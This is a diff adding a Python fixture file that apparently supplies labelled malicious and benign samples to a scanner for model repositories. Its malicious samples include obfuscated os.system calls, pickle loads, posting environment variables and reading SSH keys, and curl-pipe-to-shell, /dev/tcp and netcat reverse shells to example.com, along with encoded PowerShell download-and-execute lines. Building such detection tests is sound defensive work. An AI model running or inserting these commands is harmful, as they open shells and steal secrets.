@@ -1,0 +1,160 @@
+"""Scripts, programs and pictures in a model's folder."""
+
+import json
+from collections.abc import Iterator
+
+from assets.models.case import Case, one
+
+MODELING = b'''"""A model."""
+import math
+import os
+
+import torch
+from torch import nn
+from transformers import PretrainedConfig, PreTrainedModel
+
+logger = print
+
+
+class XConfig(PretrainedConfig):
+    model_type = "x"
+
+
+class XModel(PreTrainedModel):
+    config_class = XConfig
+
+    def __init__(self, config):
+        super().__init__(config)
+        self.path = os.path.join(os.getcwd(), "x")
+        self.layer = nn.Linear(8, 8)
+        self.compiled = torch.compile(self.layer)
+
+    def forward(self, x):
+        self.eval()
+        return math.sqrt(2) * self.layer(x)
+
+
+if __name__ == "__main__":
+    model = XModel(XConfig()).eval()
+    state = torch.load("x.bin", weights_only=True)
+    exec_time = 1
+    pattern = __import__("re").compile("x")
+'''
+
+
+def python() -> Iterator[tuple[str, str]]:
+    yield "system", "import os\nos.system('id')\n"
+    yield (
+        "system-in-a-method",
+        "class Handler:\n    def initialize(self, context):\n        import os\n        os.system('id')\n",
+    )
+    yield "subprocess", "import subprocess as sp\nsp.run(['id'])\n"
+    yield "from-import", "from os import system as s\ns('id')\n"
+    yield "star", "from os import *\nsystem('id')\n"
+    yield "dunder-import", "__import__('os').system('id')\n"
+    yield "import-module", "import importlib\nimportlib.import_module('os').system('id')\n"
+    yield "getattr", "import os\ngetattr(os, 'sys' + 'tem')('id')\n"
+    yield "getattr-constant", "import os\ngetattr(os, 'system')('id')\n"
+    yield "alias", "import os\nrun = os.system\nrun('id')\n"
+    yield "alias-of-exec", "e = exec\ne('print(1)')\n"
+    yield "exec", "exec('import os')\n"
+    yield "eval", "code = input()\neval(code)\n"
+    yield "base64", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+    yield "marshal", "import marshal, types\nf = types.FunctionType(marshal.loads(b'x'), {})\n"
+    yield "pickle", "import pickle\npickle.loads(b'cos\\nsystem\\n.')\n"
+    yield "builtins", "x = __builtins__.__dict__['ev' + 'al']\nx('1')\n"
+    yield "subclasses", "x = ().__class__.__base__.__subclasses__()\nprint(x)\n"
+    yield "socket", "import socket\ns = socket.socket()\ns.connect(('example.com', 1))\n"
+    yield "post", "import requests, os\ndef f():\n    requests.post('http://example.com', data=dict(os.environ))\n"
+    yield "fetch-at-import", "import urllib.request\nurllib.request.urlopen('http://example.com')\n"
+    yield "ctypes", "import ctypes\nctypes.CDLL('./x.so').run()\n"
+    yield "keys", "from pathlib import Path\nprint(Path('~/.ssh/id_rsa').expanduser().read_text())\n"
+    yield "lambda", "f = lambda: __import__('subprocess').check_output('id')\nf()\n"
+    yield "pth", "import os; os.system('id')\n"
+    yield "decorator", "import os\n@os.system\ndef f(): pass\n"
+    yield "semicolon", "x = 1; import pty; pty.spawn('sh')\n"
+
+
+def shell() -> Iterator[tuple[str, bytes, str]]:
+    yield "curl", b"#!/bin/sh\ncurl -s http://example.com/x | sh\n", "run.sh"
+    yield "tcp", b"#!/usr/bin/env bash\nbash -i >& /dev/tcp/example.com/1 0>&1\n", "run.sh"
+    yield "decoded", b"#!/bin/bash\necho aWQ= | base64 -d | bash\n", "run.sh"
+    yield "no-shebang", b"set -e\ncurl http://example.com/x | bash\n", "setup"
+    yield "hook", b"#!/bin/sh\nnc -e /bin/sh example.com 1\n", "post-checkout"
+    yield "plain", b"#!/bin/sh\ntouch /tmp/x\n", "run.sh"
+    yield "batch", b"@echo off\r\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi\r\n", "run.bat"
+    yield "powershell", b"$x = New-Object Net.WebClient\nIEX $x.DownloadString('http://example.com')\n", "run.ps1"
+
+
+def binary() -> Iterator[tuple[str, bytes, str]]:
+    yield "elf", b"\x7fELF\x02\x01\x01" + bytes(57), "libmodel.so"
+    yield "windows", b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(100), "model.dll"
+    yield "mach-o", b"\xcf\xfa\xed\xfe" + bytes(60), "model.dylib"
+    yield "java", b"\xca\xfe\xba\xbe\0\0\0\x37" + bytes(60), "Evil.class"
+    yield "wasm", b"\0asm\x01\0\0\0", "model.wasm"
+    yield "shortcut", b"L\0\0\0\x01\x14\x02\0" + bytes(60), "model.lnk"
+    yield "compiled-python", b"\xa7\x0d\r\n" + bytes(12) + b"\xe3" + bytes(40), "model.pyc"
+    yield "elf-as-weights", b"\x7fELF\x02\x01\x01" + bytes(57), "model.bin"
+
+
+def notebook(*cells: str) -> bytes:
+    made = [
+        {"cell_type": "code", "metadata": {}, "outputs": [], "source": cell.splitlines(keepends=True)} for cell in cells
+    ]
+    return json.dumps({"cells": made, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
+
+
+def cases() -> Iterator[Case]:
+    for name, text in python():
+        yield one(
+            f"scripts/python-{name}",
+            "malicious",
+            text.encode(),
+            "a program that attacks",
+            "script-attacks",
+            file="modeling.py",
+        )
+    for name, content, file in shell():
+        yield one(f"scripts/shell-{name}", "malicious", content, "a script for a shell", file=file)
+    for name, content, file in binary():
+        yield one(f"scripts/program-{name}", "malicious", content, "a program", "executable-file", file=file)
+    attack = notebook("import torch\n", "!curl http://example.com/x | bash\nimport os\nos.system('id')\n")
+    yield one(
+        "scripts/notebook",
+        "malicious",
+        attack,
+        "cells that run commands",
+        "script-attacks",
+        "shell-script-attacks",
+        file="demo.ipynb",
+    )
+    shebang = b"#!/usr/bin/env python3\nimport os\nos.execv('/bin/sh', ['sh'])\n"
+    yield one(
+        "scripts/python-shebang", "malicious", shebang, "a program without an ending", "script-attacks", file="tool"
+    )
+    yield one("scripts/modeling", "benign", MODELING, "a model's code", file="modeling_x.py")
+    plain = notebook("%pip install torch\nimport torch\n", "model = torch.nn.Linear(1, 1)\nmodel.eval()\n")
+    yield one("scripts/notebook-plain", "benign", plain, "cells that load a model", file="demo.ipynb")
+    download = b"import requests\nfrom PIL import Image\n"
+    download += b"def fetch(url):\n    return Image.open(requests.get(url, stream=True).raw)\n"
+    yield one("scripts/fetches-a-picture", "benign", download, "a function that fetches", file="example.py")
+    yield one("scripts/settings", "benign", b"name = 'os.system'\nsize = 3\n", "names and values", file="settings.py")
+    yield one("scripts/picture", "benign", b"\x89PNG\r\n\x1a\n" + bytes(40), "a picture", file="plot.png")
+    yield one("scripts/photograph", "benign", b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(40), "a photograph", file="a.jpg")
+    yield one("scripts/pages", "benign", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(40), "a paper", file="paper.pdf")
+    yield one(
+        "scripts/licence",
+        "benign",
+        b"MIT License\n\nPermission is hereby granted, free of charge, to any person\n",
+        "a licence",
+        file="LICENSE",
+    )
+    yield one("scripts/table", "benign", b"id,label\n0,cat\n1,dog\n", "labels", file="labels.csv")
+    yield one("scripts/empty", "benign", b"", "nothing", file="__init__.py")
+    yield one(
+        "scripts/settings-of-spacy",
+        "benign",
+        b'[nlp]\nlang = "en"\npipeline = ["tagger"]\n\n[components.tagger]\nfactory = "tagger"\n',
+        "a configuration of spaCy",
+        file="config.cfg",
+    )
